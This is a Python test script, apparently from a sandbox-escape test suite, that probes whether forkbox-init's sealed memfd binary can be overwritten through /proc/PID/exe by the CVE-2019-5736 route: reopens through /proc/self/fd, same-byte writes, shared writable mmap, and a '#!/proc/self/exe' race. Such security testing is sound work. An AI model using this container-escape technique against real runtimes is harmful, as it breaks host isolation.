"""CVE-2019-5736 class: overwrite forkbox-init's sealed memfd binary via /proc/PID/exe (direct write, O_PATH reopen through /proc/self/fd, shared mmap), including while the runner execs a '#!/proc/self/exe' script."""
import os
import sys

from _attack import ESCAPES, NOTES, en, finish, init_pids, libc, sysc  # noqa: F401

import fcntl  # noqa: E402
import mmap  # noqa: E402
import time  # noqa: E402

# runner-hook: selfexe
F_GET_SEALS = 1034
TRIGGER = "/tmp/fbx-selfexe"
READY = "/tmp/fbx-selfexe-ready"
DONE = "/tmp/fbx-selfexe-done"


def attack_handle(fd, how):
    """fd: any handle on the binary (O_PATH or readable).  Tries to change it
    without changing a byte: rewrite the first byte with itself, map it
    shared and writable."""
    first = None
    size = 0
    try:
        r = os.open("/proc/self/fd/%d" % fd, os.O_RDONLY)
        first = os.pread(r, 1, 0)
        size = os.fstat(r).st_size
        try:
            NOTES.append("%s: seals %#x" % (how, fcntl.fcntl(r, F_GET_SEALS)))
        except OSError:
            pass
        os.close(r)
    except OSError as e:
        NOTES.append("%s: reopen read-only: %s" % (how, en(e.errno)))
    # never O_TRUNC or ftruncate: a success would wreck every later sandbox
    for flags, name in ((os.O_RDWR, "O_RDWR"), (os.O_WRONLY, "O_WRONLY")):
        try:
            w = os.open("/proc/self/fd/%d" % fd, flags)
        except OSError as e:
            NOTES.append("%s: reopen %s: %s" % (how, name, en(e.errno)))
            continue
        if first is not None:
            try:
                n = os.pwrite(w, first, 0)
                ESCAPES.append("%s: wrote %d byte into the binary through a %s reopen" % (how, n, name))
            except OSError as e:
                NOTES.append("%s: %s reopen allowed but write refused: %s" % (how, name, en(e.errno)))
        if flags == os.O_RDWR and size:
            try:
                m = mmap.mmap(w, size, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
                ESCAPES.append("%s: mapped the binary shared and writable" % how)
                m.close()
            except (OSError, ValueError) as e:
                NOTES.append("%s: shared writable mmap: %s" % (how, getattr(e, "errno", e)))
        os.close(w)


def scan_once(seen, grabbed):
    for p in os.listdir("/proc"):
        if not p.isdigit() or int(p) == os.getpid() or p in grabbed:
            continue
        try:
            exe = os.readlink("/proc/%s/exe" % p)
        except OSError:
            continue
        if not exe.startswith("/memfd:"):
            continue
        seen.add(p)
        try:
            fd = os.open("/proc/%s/exe" % p, os.O_PATH)
        except OSError:
            continue
        grabbed[p] = fd


def main():
    pids = init_pids()
    if 1 not in pids:
        print("ERROR: pid 1 is not forkbox-init")
        sys.exit(2)
    # 1. straight at init and its workers
    for pid in pids:
        path = "/proc/%d/exe" % pid
        for flags, name in ((os.O_WRONLY, "O_WRONLY"), (os.O_RDWR, "O_RDWR"), (os.O_PATH, "O_PATH"),
                            (os.O_RDONLY, "O_RDONLY")):
            try:
                fd = os.open(path, flags)
            except OSError as e:
                NOTES.append("open %s %s: %s" % (path, name, en(e.errno)))
                continue
            if flags in (os.O_WRONLY, os.O_RDWR):
                ESCAPES.append("opened %s for writing (%s)" % (path, name))
            attack_handle(fd, path)
            os.close(fd)
    # 2. our own binary: a write would land in this sandbox's layer at most
    try:
        fd = os.open("/proc/self/exe", os.O_WRONLY)
        NOTES.append("/proc/self/exe opened for writing (own layer only; runner checks the template)")
        os.close(fd)
    except OSError as e:
        NOTES.append("/proc/self/exe O_WRONLY: %s" % en(e.errno))
    # 3. the runc route: the runner execs '#!/proc/self/exe', which makes the
    #    exec worker run the init memfd as a sandbox command; grab it while it runs
    with open(TRIGGER, "w") as f:
        f.write("#!/proc/self/exe\n")
    os.chmod(TRIGGER, 0o755)
    if os.environ.get("FB_HOOK_SELFEXE"):
        open(READY, "w").close()
        seen, grabbed = set(), {}
        deadline = time.time() + 40
        while time.time() < deadline and not os.path.exists(DONE):
            scan_once(seen, grabbed)
        for p, fd in grabbed.items():
            attack_handle(fd, "memfd binary of pid %s" % p)
        NOTES.append("memfd processes seen while the runner exec'd %s: %d, handles taken: %d"
                     % (TRIGGER, len(seen), len(grabbed)))


if __name__ == "__main__":
    finish(main)
